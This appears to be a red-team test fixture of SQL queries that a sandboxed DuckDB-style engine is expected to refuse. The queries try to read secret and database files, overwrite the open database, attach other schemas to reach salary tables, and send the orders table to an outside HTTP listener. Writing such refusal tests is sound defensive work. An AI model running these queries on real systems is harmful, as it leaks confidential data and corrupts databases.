-- # Attacks that know where the files of the database lie, for `streamlink-sql redteam`, which puts paths and addresses in the place of
-- # {opened} (the file that the engine has open), {database}, {secret}, {outside} and {listener}. They refuse as they stand, too.

-- class: file-read

-- refuse: invalid_sql
SELECT * FROM '{secret}'

-- refuse: policy_refused
SELECT * FROM read_csv('{secret}')

-- refuse: policy_refused
SELECT content FROM read_text('{outside}/*')

-- refuse: policy_refused
SELECT * FROM read_blob('{secret}')

-- refuse: policy_refused
SELECT * FROM glob('{outside}/**')

-- refuse: policy_refused
SELECT * FROM sniff_csv('{secret}')

-- refuse: policy_refused
SELECT * FROM read_blob('{opened}')

-- refuse: policy_refused
SELECT content FROM read_blob('{database}')

-- refuse: invalid_sql
WITH x AS (SELECT * FROM '{secret}') SELECT count(*), min(secret) FROM x

-- refuse: policy_refused
SELECT * FROM read_csv(['{secret}', '{database}'], ignore_errors = true)

-- class: file-write

-- refuse: invalid_sql
WITH x AS (COPY (SELECT 1 z) TO '{opened}' (FORMAT csv, USE_TMP_FILE false)) SELECT * FROM x

-- refuse: invalid_sql
WITH x AS (COPY (SELECT 1 z) TO '{opened}' (FORMAT csv)) SELECT * FROM x

-- refuse: invalid_sql
WITH x AS (COPY (SELECT 1 z) TO '{opened}.wal' (FORMAT csv, USE_TMP_FILE false)) SELECT * FROM x

-- refuse: invalid_sql
WITH x AS (COPY (SELECT 1 z) TO '{database}' (FORMAT csv, USE_TMP_FILE false)) SELECT * FROM x

-- refuse: invalid_sql
WITH x AS (COPY orders TO '{outside}/orders.csv') SELECT * FROM x

-- refuse: invalid_sql
WITH x AS (COPY (SELECT 1 z) TO '{secret}' (FORMAT csv, USE_TMP_FILE false)) SELECT * FROM x

-- refuse: policy_refused
COPY (SELECT 1 z) TO '{opened}' (FORMAT csv, USE_TMP_FILE false)

-- refuse: policy_refused
COPY orders TO 'here.csv'

-- refuse: policy_refused
EXPORT DATABASE '{outside}/all'

-- refuse: policy_refused
ATTACH '{outside}/new.duckdb' AS n

-- class: other-schemas

-- refuse: policy_refused
ATTACH '{database}' AS whole (READ_ONLY)

-- refuse: invalid_sql
SELECT * FROM '{database}'

-- refuse: policy_refused
WITH x AS (ATTACH '{database}' AS whole) SELECT * FROM whole.hr.salaries

-- refuse: policy_refused
SELECT * FROM _source.hr.salaries

-- refuse: policy_refused
SELECT * FROM roaster.hr.salaries

-- class: network

-- refuse: policy_refused
SELECT * FROM 'http://{listener}/x.csv'

-- refuse: policy_refused
SELECT * FROM read_parquet('http://{listener}/x.parquet')

-- refuse: policy_refused
SELECT content FROM read_text('https://{listener}/')

-- refuse: invalid_sql
WITH x AS (COPY orders TO 'http://{listener}/orders.csv') SELECT * FROM x

-- refuse: policy_refused
ATTACH 'http://{listener}/x.duckdb' AS n

-- class: configuration

-- refuse: policy_refused
SET temp_directory = '{outside}'

-- refuse: policy_refused
SET allowed_paths = ['{secret}']

-- refuse: policy_refused
PRAGMA enable_profiling = 'json'; PRAGMA profiling_output = '{outside}/profile.json'
